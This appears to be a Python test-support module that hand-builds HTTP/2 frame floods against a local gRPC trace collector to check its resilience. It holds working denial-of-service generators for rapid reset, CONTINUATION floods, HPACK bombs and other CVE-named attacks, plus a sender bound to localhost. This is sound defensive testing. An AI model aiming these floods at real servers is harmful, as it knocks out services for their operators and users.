"""What HTTP/2 lets a client ask for, as much of it as it likes: floods of frames made by hand (reliability.md R14).

Each attack is a stream of bytes on one connection; `attack` sends it and says how it ended.
"""

from __future__ import annotations

import itertools
import socket
import struct
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress

from tests.support.raw_http2 import frame, literal

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_MAX = 16_384
PATH = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"
_BATCH_BYTES = 64 * 1024
_NO_ERROR = struct.pack(">I", 0)
_CANCEL = struct.pack(">I", 8)


def _head() -> bytes:
    headers = {":method": "POST", ":scheme": "http", ":path": PATH, ":authority": "a", "te": "trailers"}
    return b"".join(literal(name, value) for name, value in (headers | {"content-type": "application/grpc"}).items())


def _streams(count: int) -> Iterator[int]:
    return itertools.islice(itertools.count(1, 2), count)


def _long(name: bytes, size: int, first: bytes = b"\0") -> bytes:
    """A literal header whose value has `size` bytes; `first` 0x40 puts it into the table."""
    rest, length = size - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return first + bytes([len(name)]) + name + length + bytes([rest]) + b"x" * size


def rapid_reset(count: int) -> Iterator[bytes]:
    """Open and cancel (CVE-2023-44487)."""
    head = _head()
    for stream in _streams(count):
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(RST, 0, stream, _CANCEL)


def made_you_reset(count: int) -> Iterator[bytes]:
    """Have the server cancel: a window that grows by nothing (CVE-2025-8671)."""
    head = _head()
    for stream in _streams(count):
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(WINDOW, 0, stream, bytes(4))


def continuation_flood(count: int) -> Iterator[bytes]:
    """A head that never ends (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, _head())
    piece = b"".join(literal(f"x-{number}", "v" * 100) for number in range(140))
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, piece)


def empty_continuations(count: int) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, _head())
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, b"")


def hpack_bomb(count: int) -> Iterator[bytes]:
    """One header of 4,000 bytes, named sixteen thousand times by a byte each: 64 MB a stream (CVE-2016-6581)."""
    for number, stream in enumerate(_streams(count)):
        block = _head() + (_long(b"b", 4_000, b"\x40") if not number else b"")
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block + b"\xbe" * (FRAME_MAX - len(block)))


def references(count: int) -> Iterator[bytes]:
    """A head that never ends, of references to the static table: a header a byte."""
    yield frame(HEADERS, 0, 1, _head())
    for _ in range(count):
        yield frame(CONTINUATION, 0, 1, b"\x8f" * FRAME_MAX)


def table_flood(count: int) -> Iterator[bytes]:
    """The table is made small and large again, and filled anew."""
    for stream in _streams(count):
        block = b"\x20\x3f\xe1\x1f" + _head() + _long(b"b", 3_900, b"\x40") * 3
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def large_head(count: int) -> Iterator[bytes]:
    """A head of 64 KiB a stream; 16 KiB are allowed."""
    for stream in _streams(count):
        block = _head() + _long(b"l", 60_000)
        parts = [block[at : at + FRAME_MAX] for at in range(0, len(block), FRAME_MAX)]
        yield frame(HEADERS, END_STREAM, stream, parts[0])
        for part in parts[1:-1]:
            yield frame(CONTINUATION, 0, stream, part)
        yield frame(CONTINUATION, END_HEADERS, stream, parts[-1])


def ping_flood(count: int) -> Iterator[bytes]:
    for number in range(count):
        yield frame(PING, 0, 0, struct.pack(">Q", number))


def settings_flood(count: int) -> Iterator[bytes]:
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
    for _ in range(count):
        yield one


def priority_flood(count: int) -> Iterator[bytes]:
    for stream in _streams(count):
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 7))


def zero_window(count: int) -> Iterator[bytes]:
    """Whole calls whose answers may never be sent."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    head = _head()
    for stream in _streams(count):
        yield frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, bytes(5))


def crumbs(count: int) -> Iterator[bytes]:
    """A message a byte at a time."""
    yield frame(HEADERS, END_HEADERS, 1, _head()) + frame(DATA, 0, 1, struct.pack(">BI", 0, 60_000))
    for _ in range(min(count, 60_000)):
        yield frame(DATA, 0, 1, b"\n")


def empty_data(count: int) -> Iterator[bytes]:
    """Frames of nothing (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, _head())
    for _ in range(count):
        yield frame(DATA, 0, 1, b"")


def window_overflow(count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1))


def unknown_frames(count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(77, 255, 0, b"x" * 100)


def too_long_frame(count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield frame(DATA, 0, 1, bytes(2**20))


def upside_down(count: int) -> Iterator[bytes]:
    """Streams that do not begin, numbers that go back, and even ones."""
    yield from (frame(DATA, 0, stream, b"x") for stream in (2, 9, 7, 1))
    yield from (frame(HEADERS, END_HEADERS, stream, _head()) for stream in (9, 7, 2, 0))
    yield from (frame(RST, 0, stream, _NO_ERROR) for stream in range(1, count, 2))


Attack = Callable[[int], Iterator[bytes]]
ATTACKS: Mapping[str, Attack] = {
    one.__name__: one
    for one in (
        rapid_reset, made_you_reset, continuation_flood, empty_continuations, references, hpack_bomb, table_flood, large_head,
        ping_flood, settings_flood, priority_flood, zero_window, crumbs, empty_data, window_overflow, unknown_frames,
        too_long_frame, upside_down,
    )
}  # fmt: skip


def attack(
    port: int, made: Iterator[bytes], *, reads: bool = True, timeout_s: float = 20.0, wait_s: float = 0.2
) -> tuple[str, int]:
    """Send all of it -> ("closed", "open" or "not read", frames' bytes that were sent).

    Parameters
    ----------
    reads : whether answers are taken; a client that takes none makes the server keep them
    timeout_s : it ends then, however much is left
    wait_s : for the server to say something more, or to end it
    """
    sent = 0
    deadline = time.monotonic() + timeout_s
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        try:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            pending = bytearray()
            for piece in itertools.chain(made, [b""]):
                pending += piece
                if len(pending) < _BATCH_BYTES and piece:
                    continue
                connection.sendall(pending)
                sent += len(pending)
                pending.clear()
                if reads and _drained(connection):
                    return "closed", sent
                if time.monotonic() > deadline:
                    break
            return ("closed" if _drained(connection, wait_s) else "open"), sent
        except TimeoutError:
            return "not read", sent  # the server has stopped reading: what we send costs us, not it
        except OSError:
            return "closed", sent


def _drained(connection: socket.socket, wait_s: float = 0.0) -> bool:
    """Take what was answered; whether the server ended the connection."""
    connection.settimeout(wait_s or 1e-6)
    try:
        with suppress(TimeoutError, BlockingIOError):
            while True:
                if not connection.recv(2**20):
                    return True
        return False
    finally:
        connection.settimeout(5)
